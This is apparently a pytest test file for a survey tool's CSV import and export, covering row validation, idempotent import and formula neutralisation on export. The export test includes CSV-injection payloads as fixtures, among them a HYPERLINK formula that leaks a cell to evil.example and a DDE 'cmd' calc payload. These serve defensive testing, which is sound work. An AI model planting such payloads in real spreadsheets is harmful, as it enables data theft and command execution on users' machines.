"""The CSV response table: reading checks every row like the form does, import is all or nothing
and idempotent, export neutralises formulas and round-trips (security.md R14, S6)."""

from __future__ import annotations

import csv
import io
from datetime import UTC, datetime
from pathlib import Path

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st
from sqlalchemy import Engine, select

from surveys.answers import AnswerSet
from surveys.csv_safety import FORMULA_TRIGGERS, neutralise_cell, restore_cell
from surveys.db import read_session, write_session
from surveys.errors import ImportRowsError, NotFoundError, RowProblem
from surveys.instrument import Instrument
from surveys.models import Answer, Response
from surveys.response_table import (
    ImportResult,
    ResponseRecord,
    export_response_table,
    import_response_table,
    read_response_table,
    table_columns,
    write_response_table,
)
from surveys.taxonomy import add_term
from tests.surveys.conftest import add_campaign, count_rows


def problems_of(error: pytest.ExceptionInfo[ImportRowsError]) -> list[tuple[int, str | None]]:
    return [(problem.row, problem.column) for problem in error.value.problems]


def cells(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text, newline="")))


# Reading -------------------------------------------------------------------------------------
def test_reads_a_valid_file_with_na_quotes_newlines_and_zones(
    small: Instrument, csv_dir: Path
) -> None:
    records = read_response_table(csv_dir / "small-valid.csv", small)

    assert [record.response_id for record in records] == ["s001", "s002", "s003", "s004"]
    first, second, third, fourth = records
    assert first.answers.values == {
        "rel_a__expectation": 5,
        "rel_a__perception": 4,
        "emp_a__expectation": 4,
        "emp_a__perception": 4,
        "overall": 4,
        "kind": "private",
        "comment": "Quick and friendly",
        "reliability__importance": 60,
        "empathy__importance": 40,
    }
    assert second.submitted_at == datetime(2026, 3, 2, 8, 30, tzinfo=UTC)
    assert second.answers.not_applicable == {"emp_a__expectation"}
    assert second.answers.values["comment"] == 'Slow, but "polite"'
    assert "emp_a__perception" not in second.answers.values
    assert third.submitted_at == datetime(2026, 3, 3, 12, 0, tzinfo=UTC)  # no zone = UTC
    assert (third.segment, third.stage, third.channel) == ("small_business", "purchase", "store")
    assert fourth.submitted_at.microsecond == 250000
    assert fourth.answers.values["comment"] == "Line one\nline two"
    assert fourth.answers.not_applicable == {"rel_a__expectation", "rel_a__perception"}


def test_a_bom_and_crlf_line_ends_are_read(small: Instrument, csv_dir: Path) -> None:
    records = read_response_table(csv_dir / "small-bom-crlf.csv", small)

    assert [record.response_id for record in records] == ["c001", "c002"]
    assert records[0].answers.values["comment"] == "Fine"
    assert records[1].answers.values["kind"] == "company"


def test_reads_bytes_and_text_streams_alike(small: Instrument, csv_dir: Path) -> None:
    path = csv_dir / "small-valid.csv"
    from_path = read_response_table(path, small)

    assert read_response_table(path.read_bytes(), small) == from_path
    with path.open(encoding="utf-8", newline="") as stream:
        assert read_response_table(stream, small) == from_path


def test_every_bad_row_is_named_with_its_column(small: Instrument, csv_dir: Path) -> None:
    with pytest.raises(ImportRowsError) as error:
        read_response_table(csv_dir / "small-bad-values.csv", small)

    messages = {(p.row, p.column): p.message for p in error.value.problems}
    assert list(messages) == [
        (2, "rel_a__expectation"),
        (3, "rel_a__perception"),
        (4, "kind"),
        (5, "submitted_at"),
        (6, "overall"),
        (7, "response_id"),
        (8, "reliability__importance"),
        (10, None),
        (11, "segment"),
    ]
    assert messages[(2, "rel_a__expectation")] == "must be from 1 to 5"
    assert messages[(3, "rel_a__perception")] == "must be a whole number from 1 to 5"
    assert messages[(4, "kind")] == "choose one of the options given"
    assert "'01/03/2026' is not an ISO 8601 date and time" in messages[(5, "submitted_at")]
    assert "not applicable" in messages[(6, "overall")]
    assert messages[(7, "response_id")] == "'b001' appears already in row 2"
    assert "add up to 100; they add up to 90" in messages[(8, "reliability__importance")]
    assert messages[(10, None)] == "has 13 cells where the header names 14 columns"
    assert messages[(11, "segment")] == "is empty"
    assert (
        str(error.value).splitlines()[0] == "row 2, column rel_a__expectation: must be from 1 to 5"
    )


def test_unknown_and_missing_columns_are_named(small: Instrument, csv_dir: Path) -> None:
    with pytest.raises(ImportRowsError) as unknown:
        read_response_table(csv_dir / "small-unknown-column.csv", small)
    with pytest.raises(ImportRowsError) as missing:
        read_response_table(csv_dir / "small-missing-column.csv", small)

    assert problems_of(unknown) == [(1, "rel_b__perception")]
    message = unknown.value.problems[0].message
    assert "not a question of small version 1" in message
    assert "did you mean rel_a__perception?" in message
    assert [(p.row, p.column, p.message) for p in missing.value.problems] == [
        (1, "channel", "the column is missing"),
        (1, "comment", "the column is missing"),
    ]


def test_a_file_that_is_not_utf8_names_the_row_column_and_byte(
    small: Instrument, csv_dir: Path
) -> None:
    with pytest.raises(ImportRowsError) as error:
        read_response_table(csv_dir / "small-latin1.csv", small)

    assert error.value.problems == [
        RowProblem(3, "comment", "is not UTF-8 text (byte 0xE9); save the file as UTF-8")
    ]


def test_a_field_over_the_csv_limit_is_a_problem_of_its_row(
    small: Instrument, csv_dir: Path, tmp_path: Path
) -> None:
    lines = (csv_dir / "small-valid.csv").read_text(encoding="utf-8").splitlines(keepends=True)
    huge = "x" * 200_000
    row = f'h001,2026-03-01T09:00:00Z,consumer,after_sales,web,4,4,,,,,"{huge}",,\n'
    path = tmp_path / "huge.csv"
    path.write_text(lines[0] + row + "".join(lines[1:]), encoding="utf-8")

    with pytest.raises(ImportRowsError) as error:
        read_response_table(path, small)

    limit = csv.field_size_limit()
    assert error.value.problems == [
        RowProblem(2, "comment", f"the cell is longer than {limit:,} characters")
    ]


def test_a_long_field_inside_a_multiline_cell_does_not_misalign_later_rows(
    small: Instrument, tmp_path: Path
) -> None:
    header = ",".join(table_columns(small))
    huge = "y\n" * 100_000
    body = (
        f'h001,2026-03-01T09:00:00Z,consumer,after_sales,web,4,4,,,,,"{huge}",,\n'
        "h002,2026-03-01T09:00:00Z,consumer,after_sales,web,4,9,,,,,,,\n"
    )
    with pytest.raises(ImportRowsError) as error:
        read_response_table(f"{header}\n{body}".encode(), small)

    assert problems_of(error) == [(2, "comment"), (3, "rel_a__perception")]


def test_require_complete_applies_the_instruments_required_items(small: Instrument) -> None:
    text = (
        ",".join(table_columns(small))
        + "\nr1,2026-01-01T00:00:00Z,consumer,purchase,web"
        + ("," * 9 + "\n")
    )

    assert read_response_table(text.encode(), small)[0].answers == AnswerSet()
    with pytest.raises(ImportRowsError) as error:
        read_response_table(text.encode(), small, require_complete=True)
    assert problems_of(error) == [(2, "rel_a__expectation"), (2, "rel_a__perception")]


def test_an_empty_file_is_a_problem_not_a_crash(small: Instrument) -> None:
    with pytest.raises(ImportRowsError) as error:
        read_response_table(b"", small)
    assert error.value.problems == [RowProblem(1, None, "the first row must name the columns")]


# Writing ---------------------------------------------------------------------------------------
def test_export_writes_numbers_as_numbers_and_neutralises_text(
    small: Instrument, csv_dir: Path
) -> None:
    records = read_response_table(csv_dir / "small-formulas.csv", small)
    stream = io.StringIO()

    assert write_response_table(records, small, stream) == 6
    rows = cells(stream.getvalue())
    comments = [row[11] for row in rows[1:]]
    assert comments == [
        '\'=HYPERLINK("http://evil.example/?x="&A1,"Click")',
        "'+1+2",
        "'-2+3",
        "'@SUM(A1:A9)",
        "'\tcmd|' /C calc'!A0",
        "quoted already",
    ]
    assert rows[6][0] == "'=1+1"
    assert rows[1][5:7] == ["4", "4"]
    assert {len(row) for row in rows} == {len(table_columns(small))}


TEXT = st.text(
    alphabet=st.characters(codec="utf-8", exclude_categories=("Cs",))
    | st.sampled_from([*FORMULA_TRIGGERS, "'", '"', ",", ";", "\u202e", "😀"]),
    max_size=40,
)


@settings(max_examples=150, suppress_health_check=[HealthCheck.too_slow], deadline=None)
@given(comments=st.lists(TEXT, min_size=1, max_size=5), response_id=TEXT.filter(bool))
def test_export_parse_restore_returns_the_original_text(
    small: Instrument, comments: list[str], response_id: str
) -> None:
    """S6: after RFC 4180 parsing, every text cell that began with a trigger begins with ``'``,
    the column count is constant, numbers are unprefixed, and restoring gives the text back."""
    when = datetime(2026, 5, 1, tzinfo=UTC)
    records = [
        ResponseRecord(
            f"{response_id}-{index}",
            when,
            "consumer",
            "after_sales",
            "web",
            AnswerSet({"rel_a__expectation": 3, "comment": comment, "kind": "private"}),
        )
        for index, comment in enumerate(comments)
    ]
    stream = io.StringIO()
    write_response_table(records, small, stream)
    rows = cells(stream.getvalue())

    assert {len(row) for row in rows} == {len(table_columns(small))}
    for row, record in zip(rows[1:], records, strict=True):
        comment, written_id = row[11], row[0]
        assert restore_cell(comment) == record.answers.values["comment"]
        assert restore_cell(written_id) == record.response_id
        assert not comment.startswith(FORMULA_TRIGGERS)
        assert not written_id.startswith(FORMULA_TRIGGERS)
        assert row[5] == "3"


@pytest.mark.parametrize(
    ("value", "written"),
    [("=1+2", "'=1+2"), ("plain", "plain"), ("'x", "''x"), ("\0x", "'\0x"), (None, ""), (5, "5")],
)
def test_neutralise_cell(value: object, written: str) -> None:
    assert neutralise_cell(value) == written


# Import and export -------------------------------------------------------------------------------
def stored_comments(engine: Engine) -> dict[str, str | None]:
    with read_session(engine) as session:
        rows = session.execute(
            select(Response.uid, Answer.text)
            .join(Answer, Answer.response_id == Response.id)
            .where(Answer.item == "comment")
        )
        return dict(rows.tuples().all())


def test_the_reference_table_round_trips_cell_for_cell(
    engine: Engine, servqual: Instrument, reference_dir: Path
) -> None:
    path = reference_dir / "servqual-240" / "responses.csv"
    key = add_campaign(engine, servqual)

    result = import_response_table(engine, path, campaign_key=key)
    stream = io.StringIO()
    written = export_response_table(engine, campaign_key=key, stream=stream)

    original = csv.DictReader(io.StringIO(path.read_text(encoding="utf-8"), newline=""))
    exported = csv.DictReader(io.StringIO(stream.getvalue(), newline=""))
    assert result == ImportResult(added=240, duplicates=0)
    assert written == 240
    assert list(exported) == list(original)
    assert sorted(exported.fieldnames or ()) == sorted(original.fieldnames or ())


def test_importing_the_same_file_twice_adds_nothing(
    engine: Engine, small: Instrument, csv_dir: Path
) -> None:
    key = add_campaign(engine, small)
    path = csv_dir / "small-valid.csv"

    first = import_response_table(engine, path, campaign_key=key)
    stored = count_rows(engine)
    second = import_response_table(engine, path, campaign_key=key)

    assert first == ImportResult(added=4, duplicates=0)
    assert second == ImportResult(added=0, duplicates=4)
    assert count_rows(engine) == stored
    assert stored[0] == 4


def test_a_stored_response_id_with_other_answers_is_refused(
    engine: Engine, small: Instrument, csv_dir: Path
) -> None:
    key = add_campaign(engine, small)
    import_response_table(engine, csv_dir / "small-valid.csv", campaign_key=key)
    changed = (csv_dir / "small-valid.csv").read_bytes().replace(b"Quick and", b"Slow and")
    changed += b"s005,2026-03-05T09:00:00Z,consumer,after_sales,web,4,4,,,,,,,\n"

    with pytest.raises(ImportRowsError) as error:
        import_response_table(engine, changed, campaign_key=key)

    assert problems_of(error) == [(2, "response_id")]
    assert "'s001' is stored already with other content" in error.value.problems[0].message
    assert count_rows(engine)[0] == 4


@pytest.mark.parametrize(
    "name",
    [
        "small-bad-values.csv",
        "small-unknown-column.csv",
        "small-missing-column.csv",
        "small-latin1.csv",
    ],
)
def test_a_file_with_any_bad_row_imports_nothing(
    engine: Engine, small: Instrument, csv_dir: Path, name: str
) -> None:
    key = add_campaign(engine, small)

    with pytest.raises(ImportRowsError):
        import_response_table(engine, csv_dir / name, campaign_key=key)

    assert count_rows(engine) == (0, 0)


def test_unknown_segment_stage_or_channel_is_named(engine: Engine, small: Instrument) -> None:
    key = add_campaign(engine, small)
    header = ",".join(table_columns(small))
    body = (
        "a1,2026-01-01T00:00:00Z,students,after_sales,web,4,4,,,,,,,\n"
        "a2,2026-01-01T00:00:00Z,unclassified,delivery,fax,4,4,,,,,,,\n"
    )

    with pytest.raises(ImportRowsError) as error:
        import_response_table(engine, f"{header}\n{body}".encode(), campaign_key=key)

    assert problems_of(error) == [(2, "segment"), (3, "stage"), (3, "channel")]
    assert "unknown segment 'students'" in error.value.problems[0].message
    assert "gapmeter segment add" in error.value.problems[0].message
    with write_session(engine) as session:
        add_term(session, "segment", "students", "Students")
        add_term(session, "stage", "delivery", "Delivery")
        add_term(session, "channel", "fax", "Fax")
    result = import_response_table(engine, f"{header}\n{body}".encode(), campaign_key=key)
    assert result.added == 2


def test_formula_cells_are_stored_verbatim_and_neutralised_on_export(
    engine: Engine, small: Instrument, csv_dir: Path
) -> None:
    key = add_campaign(engine, small)
    import_response_table(engine, csv_dir / "small-formulas.csv", campaign_key=key)
    stream = io.StringIO()
    export_response_table(engine, campaign_key=key, stream=stream)

    stored = stored_comments(engine)
    assert stored["f002"] == "+1+2"
    assert stored["=1+1"] == "quoted already"  # a leading ' marks text, as in a spreadsheet
    assert stored["f001"].startswith("=HYPERLINK(")
    exported = {restore_cell(row[0]): row[11] for row in cells(stream.getvalue())[1:]}
    assert exported["f002"] == "'+1+2"
    assert exported["=1+1"] == "quoted already"


def test_an_exported_table_imports_back_to_the_same_content(
    engine: Engine, small: Instrument, csv_dir: Path
) -> None:
    """Export neutralises with a leading ', import drops it: the round trip is the identity, so
    re-importing an export adds nothing and reports every row as already present."""
    key = add_campaign(engine, small)
    import_response_table(engine, csv_dir / "small-formulas.csv", campaign_key=key)
    import_response_table(engine, csv_dir / "small-valid.csv", campaign_key=key)
    before = stored_comments(engine)
    stream = io.StringIO()
    export_response_table(engine, campaign_key=key, stream=stream)

    again = import_response_table(engine, stream.getvalue().encode(), campaign_key=key)
    assert (again.added, again.duplicates) == (0, 10)
    records = read_response_table(stream.getvalue().encode(), small)
    comments = {record.response_id: record.answers.values.get("comment") for record in records}
    assert {uid: text for uid, text in comments.items() if text is not None} == before


def test_export_by_instrument_covers_every_campaign(
    engine: Engine, small: Instrument, csv_dir: Path
) -> None:
    first, second = add_campaign(engine, small), add_campaign(engine, small)
    import_response_table(engine, csv_dir / "small-valid.csv", campaign_key=first)
    import_response_table(engine, csv_dir / "small-bom-crlf.csv", campaign_key=second)
    by_campaign, by_instrument = io.StringIO(), io.StringIO()

    export_response_table(engine, campaign_key=second, stream=by_campaign)
    export_response_table(engine, instrument_key="small", stream=by_instrument)

    assert [row[0] for row in cells(by_campaign.getvalue())[1:]] == ["c001", "c002"]
    ids = [row[0] for row in cells(by_instrument.getvalue())[1:]]
    assert ids == ["s001", "s002", "s003", "s004", "c001", "c002"]
    reread = read_response_table(by_instrument.getvalue().encode(), small)
    assert reread[:4] == read_response_table(csv_dir / "small-valid.csv", small)


def test_import_into_an_unknown_campaign_is_refused(engine: Engine, csv_dir: Path) -> None:
    with pytest.raises(NotFoundError, match="no campaign 'nope'"):
        import_response_table(engine, csv_dir / "small-valid.csv", campaign_key="nope")
